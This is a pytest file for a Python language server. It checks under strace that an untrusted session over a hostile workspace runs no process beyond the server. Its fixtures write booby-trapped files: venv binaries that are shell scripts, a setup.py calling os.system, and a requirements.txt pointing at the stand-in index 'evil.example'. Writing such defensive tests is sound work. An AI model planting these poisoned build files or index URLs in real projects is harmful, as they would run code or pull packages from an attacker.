"""An untrusted session over a hostile workspace starts no process (issue 12): under ``strace -f -e trace=execve``
the only ``execve`` is the server's own, whatever the client asks for (every process command, code actions,
hovers, a re-check) and whatever the workspace holds (a ``setup.py`` that would run code, a venv whose
``python`` is a script, an index URL, an include out of the workspace)."""

from __future__ import annotations

import asyncio
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from lsp_session import frame, server_environment

from venvsense.protocol import GET_STATUS_REQUEST, PROCESS_COMMANDS, RECHECK

pytestmark = pytest.mark.asyncio(loop_scope="function")


def strace_works() -> str | None:
    """Why strace cannot be used here (not installed, ptrace refused), or ``None``."""
    strace = shutil.which("strace")
    if strace is None:
        return "strace is not installed"
    true = shutil.which("true") or "/bin/true"
    try:
        result = subprocess.run([strace, "-f", "-e", "trace=execve", "-o", os.devnull, true], capture_output=True,
                                text=True, timeout=30, check=False)
    except (OSError, subprocess.TimeoutExpired) as error:
        return f"strace cannot run: {error}"
    if result.returncode != 0:
        return f"strace cannot trace here (ptrace): {result.stderr.strip()[:200]}"
    return None


def hostile_workspace(base: Path) -> Path:
    root = base / "ws"
    (root / ".venv" / "bin").mkdir(parents=True)
    (root / ".venv" / "lib" / "python3.11" / "site-packages").mkdir(parents=True)
    (root / ".venv" / "pyvenv.cfg").write_text("home = /usr/bin\nversion = 3.11.0\n", encoding="utf-8")
    marker = root / "PWNED"
    for name in ("python", "python3", "pip", "uv"):
        script = root / ".venv" / "bin" / name
        script.write_text(f"#!/bin/sh\ntouch {marker}\n", encoding="utf-8")
        script.chmod(0o755)
    (base / "outside.txt").write_text("secret-package\n", encoding="utf-8")
    (root / "requirements.txt").write_text(
        "--index-url http://evil.example/simple\nalpha==1.0\n-r ../outside.txt\n-e .\n", encoding="utf-8")
    (root / "setup.py").write_text(f"import os\nos.system('touch {marker}')\nfrom setuptools import setup\n"
                                   "setup(name='evil', install_requires=open('requirements.txt').read().split())\n",
                                   encoding="utf-8")
    (root / "pyproject.toml").write_text('[build-system]\nrequires = ["evil"]\nbuild-backend = "evil.backend"\n'
                                         '[project]\nname = "evil"\ndynamic = ["dependencies"]\n', encoding="utf-8")
    (root / "main.py").write_text("import alpha\nimport numpy\nimport importlib\nimportlib.import_module('x')\n",
                                  encoding="utf-8")
    return root


def requests(root: Path) -> list[dict[str, Any]]:
    manifest = (root / "requirements.txt").as_uri()
    zero = {"start": {"line": 1, "character": 0}, "end": {"line": 1, "character": 5}}
    params = {"processId": None, "rootUri": root.as_uri(), "capabilities": {},
              "workspaceFolders": [{"uri": root.as_uri(), "name": "ws"}],
              "initializationOptions": {"venvsense": {"trusted": False}}}
    out: list[dict[str, Any]] = [
        {"id": 1, "method": "initialize", "params": params},
        {"method": "initialized", "params": {}},
        {"method": "textDocument/didOpen", "params": {"textDocument": {
            "uri": manifest, "languageId": "pip-requirements", "version": 1,
            "text": (root / "requirements.txt").read_text(encoding="utf-8")}}},
        {"id": 2, "method": "textDocument/hover", "params": {"textDocument": {"uri": manifest},
                                                             "position": {"line": 1, "character": 1}}},
        {"id": 3, "method": "textDocument/codeAction", "params": {"textDocument": {"uri": manifest}, "range": zero,
                                                                  "context": {"diagnostics": []}}},
        {"id": 4, "method": "workspace/executeCommand", "params": {"command": RECHECK,
                                                                   "arguments": [root.as_uri()]}},
    ]
    for number, command in enumerate(sorted(PROCESS_COMMANDS), start=10):
        out.append({"id": number, "method": "workspace/executeCommand",
                    "params": {"command": command, "arguments": [root.as_uri()]}})
    out.append({"id": 30, "method": GET_STATUS_REQUEST})
    return out


async def test_an_untrusted_session_over_a_hostile_workspace_makes_one_execve(tmp_path: Path) -> None:
    reason = strace_works()
    if reason is not None:
        pytest.skip(reason)
    root = hostile_workspace(tmp_path)
    trace = tmp_path / "execve.txt"
    process = await asyncio.create_subprocess_exec(
        shutil.which("strace") or "strace", "-f", "-qq", "-e", "trace=execve", "-o", str(trace),
        sys.executable, "-m", "venvsense", "serve", stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.DEVNULL, env=server_environment(None))
    assert process.stdin is not None and process.stdout is not None
    sent = requests(root)
    wanted = {m["id"] for m in sent if "id" in m}
    process.stdin.write(b"".join(frame(m) for m in sent))
    answers: dict[int, dict[str, Any]] = {}

    async def read_until(ids: set[int]) -> None:
        assert process.stdout is not None
        while not ids <= answers.keys():
            length = 0
            while (line := await process.stdout.readline()) not in (b"\r\n", b""):
                if line.lower().startswith(b"content-length:"):
                    length = int(line.split(b":")[1])
            assert length, "the server closed its output"
            message = json.loads(await process.stdout.readexactly(length))
            if "id" in message and "method" not in message:
                answers[message["id"]] = message

    try:
        await asyncio.wait_for(read_until(wanted), 120)
        # the check has run (status answered after it); then a polite end
        process.stdin.write(frame({"id": 99, "method": "shutdown"}))
        await asyncio.wait_for(read_until({99}), 30)
        process.stdin.write(frame({"method": "exit"}))
        await asyncio.wait_for(process.wait(), 30)
    finally:
        if process.returncode is None:
            process.kill()
            await process.wait()
    for number in range(10, 10 + len(PROCESS_COMMANDS)):
        assert "error" in answers[number] or "not trusted" in json.dumps(answers[number]), answers[number]
    calls = [line for line in trace.read_text(encoding="utf-8").splitlines()
             if re.match(r"^\d+\s+execve\(", line)]
    assert len(calls) == 1, "\n".join(calls)
    assert not (root / "PWNED").exists()
